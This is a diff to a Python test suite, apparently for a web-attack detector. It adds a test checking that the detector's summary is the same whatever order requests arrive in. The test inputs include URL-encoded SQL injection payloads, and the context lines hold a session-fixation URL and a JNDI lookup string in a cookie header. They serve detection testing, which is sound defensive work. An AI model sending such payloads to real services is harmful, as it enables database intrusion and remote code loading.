@@ -59,6 +59,18 @@ def test_a_session_chosen_by_another_site(event, hits) -> None:
     assert hits(asked(event, "/login?PHPSESSID=1", **row)) == []
 
 
+def test_the_words_are_the_same_in_whatever_order_requests_come(event, hits) -> None:
+    sent = [
+        asked(event, f"/item.php?id={value}", 200, seconds=number)
+        for number, value in enumerate(
+            ("1'%20or%20'a'='a", "1%20and%20sleep(5)", "1%20union%20select%201,2--")
+        )
+    ]
+    (first,) = hits(*sent)
+    (second,) = hits(*reversed(sent))
+    assert first.summary == second.summary
+
+
 def test_headers_among_a_sources_own_fields_are_read(event, hits) -> None:
     (hit,) = hits(
         asked(event, "/", extra={"http.request.headers.cookie": "a=1; b=${jndi:ldap://192.0.2.1/x}"})
